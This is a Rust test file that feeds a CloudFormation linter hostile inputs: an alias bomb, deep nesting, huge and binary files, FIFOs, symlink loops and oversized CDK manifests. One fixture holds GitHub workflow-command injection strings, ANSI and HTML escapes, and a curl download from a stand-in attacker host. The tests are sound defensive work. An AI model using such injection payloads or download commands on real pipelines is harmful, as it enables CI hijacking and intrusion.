//! Hostile input through the real binary: each bad file gets its
//! diagnostic, the run goes on to the good file named after it
//! (`fixtures/seed-stack.yaml`), and the exit code follows SPEC §1 (1 for a
//! finding such as PN001, 2 when a path cannot be used at all).

use std::path::Path;
use std::time::Duration;

use assert_cmd::Command;

const SEED: &str = "fixtures/seed-stack.yaml";
/// A line the seed always reports in ap-northeast-1.
const SEED_LINE: &str = "seed-stack.yaml:34:3: PN204";

mod common;

fn bin() -> Command {
    let mut c = common::bin();
    c.timeout(Duration::from_secs(60));
    c
}

fn scratch(name: &str) -> common::Scratch {
    common::scratch("hostile", name)
}

struct Run {
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

/// Lints `bad` then the seed, in the concise format.
fn lint_then_seed(bad: &Path) -> Run {
    let out =
        bin().arg(bad).arg(SEED).args(["--region", "ap-northeast-1", "--format", "concise"]).output().expect("runs");
    let run = Run {
        code: out.status.code(),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    };
    assert!(
        run.stdout.contains(SEED_LINE),
        "the seed after {} is still linted:\n{}{}",
        bad.display(),
        run.stdout,
        run.stderr
    );
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    run
}

/// The PN001 line `bad` gets: `path:line:col: PN001 [error] ...`.
fn pn001(run: &Run, bad: &Path) -> String {
    let prefix = format!("{}:", bad.display());
    let line = run
        .stdout
        .lines()
        .find(|l| l.starts_with(&prefix) && l.contains(": PN001 [error] "))
        .unwrap_or_else(|| panic!("no PN001 for {}:\n{}{}", bad.display(), run.stdout, run.stderr));
    // it points at a line and column of the file (1-based)
    let pos: Vec<u32> = line[prefix.len()..].split(':').take(2).map(|n| n.parse().expect("line:col")).collect();
    assert!(pos[0] >= 1 && pos[1] >= 1, "{line}");
    line.to_string()
}

#[test]
fn billion_laughs_is_refused_after_a_bounded_expansion() {
    let dir = scratch("laughs");
    let mut bomb = String::from(
        "Resources:\n  a0: &a0 [\"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\"]\n",
    );
    for i in 1..10 {
        let refs = vec![format!("*a{}", i - 1); 10].join(", ");
        bomb.push_str(&format!("  a{i}: &a{i} [{refs}]\n"));
    }
    let bad = dir.join("laughs.yaml");
    std::fs::write(&bad, bomb).unwrap();
    let run = lint_then_seed(&bad);
    assert!(pn001(&run, &bad).contains("alias expansion exceeds"), "{}", run.stdout);
    assert_eq!(run.code, Some(1));
}

/// Five nested `Fn::ForEach` loops of 1,000 items would make 10^15
/// instances: expansion stops at its resource cap, with a finding at the
/// loop, and the instances it made are still analyzed.
#[test]
fn nested_foreach_loops_are_expanded_within_a_bound() {
    let dir = scratch("foreach");
    let items: Vec<String> = (0..1000).map(|i| format!("v{i}")).collect();
    let mut body =
        "'I${A}${B}${C}${D}${E}': {Type: AWS::EC2::Instance, Properties: {SubnetId: !Ref Subnet}}".to_string();
    for id in ["E", "D", "C", "B", "A"] {
        body = format!("'Fn::ForEach::L{id}': [{id}, [{}], {{{body}}}]", items.join(", "));
    }
    let bad = dir.join("loops.yaml");
    std::fs::write(
        &bad,
        format!(
            "Transform: AWS::LanguageExtensions\nResources:\n  Vpc: {{Type: AWS::EC2::VPC, Properties: {{CidrBlock: \
             10.0.0.0/16}}}}\n  Subnet: {{Type: AWS::EC2::Subnet, Properties: {{VpcId: !Ref Vpc, CidrBlock: \
             10.0.0.0/24}}}}\n  {body}\n"
        ),
    )
    .unwrap();
    let run = lint_then_seed(&bad);
    assert!(run.stdout.contains("PN008 [error] `Fn::ForEach::LE` makes more than 2000 resources"), "{}", run.stdout);
    assert!(run.stdout.contains("Session Manager cannot reach Iv0v0v0v0v0"), "{}", run.stdout);
    assert_eq!(run.code, Some(1));
}

#[test]
fn deep_nesting_is_a_finding_not_a_stack_overflow() {
    let dir = scratch("deep");
    let depth = 100_000;
    let yaml = dir.join("deep.yaml");
    std::fs::write(&yaml, format!("Resources: {}", "[".repeat(depth))).unwrap();
    let json = dir.join("deep.json");
    std::fs::write(&json, format!("{{\"Resources\": {}", "[".repeat(depth))).unwrap();
    // closed brackets too: the parser must refuse the depth, not the syntax
    let closed = dir.join("closed.json");
    std::fs::write(&closed, format!("{{\"Resources\": {}{}}}", "[".repeat(depth), "]".repeat(depth))).unwrap();
    for bad in [&yaml, &json, &closed] {
        let run = lint_then_seed(bad);
        let line = pn001(&run, bad);
        assert!(line.contains("recursion limit") || line.contains("nesting depth") || line.contains("deep"), "{line}");
        assert_eq!(run.code, Some(1));
    }
}

#[test]
fn a_200_mb_file_is_refused_from_its_size_without_reading_it() {
    let dir = scratch("big");
    let bad = dir.join("big.yaml");
    // sparse: 200 MB long, no disk used
    let f = std::fs::File::create(&bad).unwrap();
    f.set_len(200 * 1024 * 1024).unwrap();
    drop(f);
    let run = lint_then_seed(&bad);
    let line = pn001(&run, &bad);
    assert!(line.contains("209715200 bytes, over privnet-lint's limit of 32 MiB"), "{line}");
    assert_eq!(run.code, Some(1));

    // With the address space capped at 64 MiB a run that read the file into
    // memory would fail to allocate; the refusal must still come out. (A
    // debug build runs from about 40 MiB. Caps near 150 MB hit a band a few
    // MB wide where the rayon pool cannot start its threads, and the band
    // moves with the binary's size: 144-148 MB on one build, 150-152 on the
    // next.)
    if !Path::new("/bin/sh").exists() {
        eprintln!("no /bin/sh: the memory-capped run is skipped");
        return;
    }
    let exe = assert_cmd::cargo::cargo_bin("privnet-lint");
    let out = std::process::Command::new("/bin/sh")
        .args(["-c", "ulimit -v 65536 && exec \"$0\" \"$@\""])
        .arg(&exe)
        .arg(&bad)
        .arg(SEED)
        .args(["--region", "ap-northeast-1", "--format", "concise"])
        .env("NO_COLOR", "1")
        .env("RAYON_NUM_THREADS", "2")
        .env("MALLOC_ARENA_MAX", "2")
        .env_remove("AWS_REGION")
        .env_remove("AWS_DEFAULT_REGION")
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{stdout}{}", String::from_utf8_lossy(&out.stderr));
    assert!(stdout.contains("over privnet-lint's limit") && stdout.contains(SEED_LINE), "{stdout}");
}

#[test]
fn invalid_utf8_and_binary_files_are_pn001_at_the_bad_byte() {
    let dir = scratch("utf8");
    let latin1 = dir.join("latin1.yaml");
    std::fs::write(&latin1, b"Resources:\n  A: {Type: \"caf\xe9\"}\n").unwrap();
    let run = lint_then_seed(&latin1);
    assert!(pn001(&run, &latin1).contains("latin1.yaml:2:17: PN001 [error] not valid UTF-8"), "{}", run.stdout);
    assert_eq!(run.code, Some(1));

    let binary = dir.join("binary.yaml");
    let mut bytes = b"\x7fELF\x02\x01\x01\x00".to_vec();
    bytes.extend((0..4096u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8));
    std::fs::write(&binary, bytes).unwrap();
    let run = lint_then_seed(&binary);
    assert!(pn001(&run, &binary).contains("a binary file, not a template"), "{}", run.stdout);
    assert_eq!(run.code, Some(1));
}

#[cfg(unix)]
#[test]
fn a_symlink_loop_is_not_followed_while_walking() {
    let dir = scratch("loop");
    let sub = dir.join("stacks/sub");
    std::fs::create_dir_all(&sub).unwrap();
    std::fs::copy(SEED, sub.join("seed.yaml")).unwrap();
    std::os::unix::fs::symlink("..", sub.join("up")).unwrap();
    std::os::unix::fs::symlink(".", sub.join("self")).unwrap();
    let out = bin().arg(&*dir).args(["--region", "ap-northeast-1", "--format", "concise"]).output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("symbolic link loop, not followed"), "{stderr}");
    // the template is linted once, not once per path through the loop
    assert_eq!(stdout.matches(": PN204 ").count(), 1, "{stdout}");
    assert!(stdout.contains("seed.yaml:34:3: PN204"), "{stdout}");
    assert_eq!(out.status.code(), Some(0), "a note and a warning do not fail the run: {stderr}");
}

#[cfg(unix)]
#[test]
fn an_unreadable_file_is_exit_2_and_the_others_are_linted() {
    use std::os::unix::fs::PermissionsExt;
    let dir = scratch("unreadable");
    let bad = dir.join("secret.yaml");
    std::fs::copy(SEED, &bad).unwrap();
    std::fs::set_permissions(&bad, std::fs::Permissions::from_mode(0o000)).unwrap();
    if std::fs::read(&bad).is_ok() {
        // root (or CAP_DAC_OVERRIDE) reads anything: nothing to test
        eprintln!("running with the right to read a chmod 000 file (root?): the unreadable-file check is skipped");
        return;
    }
    let run = lint_then_seed(&bad);
    assert!(run.stderr.contains("secret.yaml: permission denied"), "{}", run.stderr);
    assert_eq!(run.code, Some(2));
}

#[cfg(unix)]
#[test]
fn a_fifo_is_not_opened() {
    let dir = scratch("fifo");
    let fifo = dir.join("pipe.yaml");
    let made = std::process::Command::new("mkfifo").arg(&fifo).status();
    if !made.is_ok_and(|s| s.success()) {
        eprintln!("mkfifo is not available: the FIFO check is skipped");
        return;
    }
    // nobody writes to the FIFO: opening it would block until the timeout
    let run = lint_then_seed(&fifo);
    assert!(run.stderr.contains("pipe.yaml: not a regular file"), "{}", run.stderr);
    assert_eq!(run.code, Some(2));
    // found by walking a folder, it is left out quietly
    let out = bin().arg(&*dir).args(["--format", "concise"]).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
}

#[cfg(unix)]
#[test]
fn a_device_is_not_read() {
    if !Path::new("/dev/zero").exists() {
        return;
    }
    // endless: reading it would never finish
    let run = lint_then_seed(Path::new("/dev/zero"));
    assert!(run.stderr.contains("/dev/zero: not a regular file"), "{}", run.stderr);
    assert_eq!(run.code, Some(2));
}

#[test]
fn an_empty_file_is_pn001_at_line_1() {
    let dir = scratch("empty");
    let bad = dir.join("empty.yaml");
    std::fs::write(&bad, "").unwrap();
    let run = lint_then_seed(&bad);
    assert!(pn001(&run, &bad).contains("empty.yaml:1:1: PN001 [error] the file is empty"), "{}", run.stdout);
    assert_eq!(run.code, Some(1));
    // comments only: as empty
    let comments = dir.join("comments.yaml");
    std::fs::write(&comments, "# nothing here\n# at all\n").unwrap();
    let run = lint_then_seed(&comments);
    assert!(pn001(&run, &comments).contains("the file is empty"), "{}", run.stdout);
}

#[test]
fn a_missing_path_is_exit_2_and_the_others_are_linted() {
    let dir = scratch("missing");
    let run = lint_then_seed(&dir.join("nope.yaml"));
    assert!(run.stderr.contains("nope.yaml: no such file or folder"), "{}", run.stderr);
    assert_eq!(run.code, Some(2));
}

/// Logical IDs, descriptions and URLs carrying workflow commands, URL-encoded
/// and real line breaks, ANSI escapes, Markdown and HTML.
const HOSTILE: &str = "AWSTemplateFormatVersion: \"2010-09-09\"
Description: \"::error file=x::injected%0A\\r\\n<script>alert(1)</script>\"
Resources:
  \"Vpc::error::x%0A,y\\n::warning::z\":
    Type: AWS::EC2::VPC
    Properties:
      CidrBlock: 10.0.0.0/16
  \"Subnet\\e[31m<b>x</b>\\r\\n::error file=a::b\":
    Type: AWS::EC2::Subnet
    Properties:
      VpcId: !Ref \"Vpc::error::x%0A,y\\n::warning::z\"
      CidrBlock: 10.0.1.0/24
  \"Instance\\r::add-mask::x\\n::set-output name=a::b\":
    Type: AWS::EC2::Instance
    Properties:
      ImageId: ami-12345678
      SubnetId: !Ref \"Subnet\\e[31m<b>x</b>\\r\\n::error file=a::b\"
      UserData:
        Fn::Base64: |
          #!/bin/bash
          curl -o /tmp/x \"https://evil.example.com/::error file=a::b%0A<b>x</b>\"
";

#[test]
fn github_format_through_the_binary_cannot_be_hijacked() {
    let dir = scratch("inject");
    let bad = dir.join("inject.yaml");
    std::fs::write(&bad, HOSTILE).unwrap();
    let out = bin().arg(&bad).args(["--format", "github"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    let stdout = String::from_utf8(out.stdout).expect("UTF-8");
    assert!(stdout.lines().count() >= 3, "{stdout}");
    for line in stdout.lines() {
        // every line is one of our annotations, on our file
        let ours = ["::error file=", "::warning file=", "::notice file="];
        assert!(ours.iter().any(|p| line.starts_with(p)), "{line}");
        let (props, data) = line[2..].split_once("::").expect("command::data");
        assert!(props.contains(&format!("file={}", bad.display())), "{line}");
        assert!(data.starts_with(&format!("{}:", bad.display())), "{line}");
        assert!(!line.contains('\r') && !line.contains('\u{1b}'), "{line:?}");
    }
    // nothing but annotations: no forged command on a line of its own
    let forged = ["::add-mask::", "::set-output", "::warning::z", "::error::x"];
    for f in forged {
        assert!(!stdout.lines().any(|l| l.starts_with(f)), "{f} forged:\n{stdout}");
    }
    // stderr stays quiet too
    assert!(!String::from_utf8_lossy(&out.stderr).lines().any(|l| l.starts_with("::")));
}

/// A CDK cloud assembly is input from whoever opened the pull request
/// (SPEC §8): a manifest nested 100,000 levels deep, one with 100,000
/// artifacts, one whose stack names a FIFO and one naming itself as its
/// own template are findings on the manifest, in bounded time, and the
/// files named after them are still linted.
#[test]
fn hostile_cloud_assemblies_are_findings_and_the_run_goes_on() {
    let dir = scratch("assembly");
    let folder = |name: &str, manifest: &str| {
        let d = dir.join(name);
        std::fs::create_dir_all(&d).unwrap();
        std::fs::write(d.join("manifest.json"), manifest).unwrap();
        d
    };
    let depth = 100_000;
    let deep = folder("deep", &format!("{}{}", "[".repeat(depth), "]".repeat(depth)));
    let run = lint_then_seed(&deep);
    let line = pn001(&run, &deep.join("manifest.json"));
    assert!(line.contains("deep") || line.contains("nesting"), "{line}");
    assert_eq!(run.code, Some(1));

    // 100,000 artifacts: asset manifests are skipped, stacks naming no
    // file are refused one by one
    let mut artifacts = Vec::new();
    for i in 0..100_000 {
        let kind = if i % 2 == 0 { "cdk:asset-manifest" } else { "aws:cloudformation:stack" };
        artifacts.push(format!(r#""A{i}": {{"type": "{kind}", "properties": {{"templateFile": "none-{i}.json"}}}}"#));
    }
    let many = folder("many", &format!(r#"{{"version": "55.0.0", "artifacts": {{{}}}}}"#, artifacts.join(",")));
    let started = std::time::Instant::now();
    let run = lint_then_seed(&many);
    assert!(started.elapsed() < Duration::from_secs(30), "{:?}", started.elapsed());
    let refused = run.stdout.lines().filter(|l| l.contains("many/manifest.json:") && l.contains("PN009")).count();
    assert_eq!(refused, 50_000, "{}", &run.stdout[..run.stdout.len().min(2000)]);

    // a FIFO as a template, and the manifest as its own template: neither
    // hangs, the FIFO is refused and the manifest is not a template
    let odd = folder(
        "odd",
        r#"{"version": "55.0.0", "artifacts": {
  "Fifo": {"type": "aws:cloudformation:stack", "properties": {"templateFile": "fifo.json"}},
  "Itself": {"type": "aws:cloudformation:stack", "properties": {"templateFile": "manifest.json"}}}}"#,
    );
    let fifo = odd.join("fifo.json");
    let made = std::process::Command::new("mkfifo").arg(&fifo).status();
    if !made.is_ok_and(|s| s.success()) {
        eprintln!("no mkfifo: the FIFO case is skipped");
        std::fs::write(&fifo, "{}").unwrap();
    }
    let run = lint_then_seed(&odd);
    assert!(!run.stdout.contains("panicked"), "{}", run.stdout);
    if std::fs::metadata(&fifo).is_ok_and(|m| !m.is_file()) {
        assert!(
            run.stdout
                .lines()
                .any(|l| l.contains("odd/manifest.json:") && l.contains("PN009") && l.contains("fifo.json")),
            "{}",
            run.stdout
        );
    }
}
